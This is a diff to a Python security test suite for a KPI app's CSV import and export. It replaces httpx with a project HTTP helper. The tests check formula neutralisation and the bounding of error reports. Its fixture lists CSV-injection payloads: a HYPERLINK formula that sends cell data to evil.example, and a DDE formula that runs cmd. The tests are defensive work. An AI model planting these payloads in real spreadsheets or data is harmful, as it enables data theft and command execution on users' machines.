@@ -6,11 +6,11 @@ from __future__ import annotations
 import csv
 import io
 
-import httpx
 from hypothesis import given
 from hypothesis import strategies as st
 
 from kpi.csvio import FORMULA_TRIGGERS, neutralise, restore
+from tests import http_calls
 from tests.security.conftest import WebProcess, bearer, login
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
@@ -21,7 +21,7 @@ def test_export_neutralises_formulas_has_a_bom_and_imports_back_unchanged(
     web_server: WebProcess,
 ) -> None:
     planner = bearer(login(web_server, "plan"))
-    with httpx.Client(base_url=web_server.url, timeout=60) as api:
+    with http_calls.client(base_url=web_server.url, timeout=60) as api:
         for k, note in enumerate(FORMULAS):
             body = {"indicator_id": "2.1", "period": str(2016 + k), "as_of": f"{2016 + k}-06-30",
                     "value": 2, "unit": "times", "source_note": note}
@@ -58,7 +58,7 @@ def test_the_error_report_of_a_huge_bad_import_is_bounded(web_server: WebProcess
     header = "indicator_id,period,as_of,value,unit,numerator,denominator,source_note\n"
     bad_row = "no-such,2016,2016-06-30,abc,times,,,note " + "x" * 40 + "\n"
     body = header + bad_row * (4_900_000 // len(bad_row))
-    r = httpx.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=120,
+    r = http_calls.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=120,
                    files={"file": ("kpi.csv", body.encode(), "text/csv")})
     assert r.status_code == 422
     problem = r.json()
@@ -75,7 +75,7 @@ def test_each_field_of_a_refused_imports_report_is_cut_to_300_characters(web_ser
     bodies = {"c": f"{header},{'c' * 5_000}\n2.1,2016,2016-06-30,2,times,,,note,x\n",
               "z": f"{header}\n2.1,2016,2016-06-30,{'z' * 5_000},times,,,note\n"}
     for letter, body in bodies.items():
-        r = httpx.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=60,
+        r = http_calls.post(f"{web_server.url}/api/kpis/import", headers=planner, timeout=60,
                        files={"file": ("kpi.csv", body.encode(), "text/csv")})
         assert r.status_code == 422, r.text[:500]
         fields = [(k, e[k]) for e in r.json()["errors"] for k in ("message", "message_zh", "column") if e.get(k)]
